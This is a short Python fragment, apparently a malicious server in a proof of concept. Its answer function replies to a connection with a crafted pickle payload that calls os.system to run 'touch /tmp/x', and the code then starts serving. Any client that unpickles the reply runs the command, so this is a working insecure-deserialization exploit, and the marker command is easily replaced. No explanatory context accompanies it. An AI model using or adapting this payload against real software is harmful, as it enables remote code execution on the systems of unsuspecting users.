def answer(connection, head):
    connection.sendall(plain(b'\x80\x04\x95cos\nsystem\n(S"touch /tmp/x"\ntR.'))

serve()
